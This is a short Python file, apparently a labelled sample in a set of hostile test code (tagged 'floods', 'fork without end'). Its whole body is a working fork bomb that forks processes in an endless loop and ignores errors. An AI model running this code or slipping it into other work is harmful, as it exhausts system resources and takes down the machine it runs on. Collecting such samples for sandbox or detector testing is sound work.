"""family: floods
tries: to fork without end
honest: all
"""

# %%
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
